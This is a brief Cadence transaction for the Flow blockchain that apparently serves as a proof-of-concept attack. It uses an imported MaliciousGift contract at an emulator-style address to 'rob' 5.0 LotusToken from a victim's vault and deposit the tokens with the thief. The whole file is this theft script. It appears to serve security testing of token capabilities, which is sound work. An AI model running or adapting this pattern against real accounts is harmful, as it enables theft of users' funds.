import "FungibleToken"
import "LotusToken"
import MaliciousGift from 0x0000000000000016

/// The thief takes Lotus out of the vault of whoever holds the gift.
transaction(victim: Address) {

    prepare(thief: auth(BorrowValue) &Account) {
        let gift = getAccount(victim).capabilities.borrow<&MaliciousGift.Gift>(/public/gift)!
        thief.storage.borrow<&LotusToken.Vault>(from: LotusToken.vaultStoragePath)!
            .deposit(from: <- gift.rob(type: Type<@LotusToken.Vault>(), amount: 5.0))
    }
}
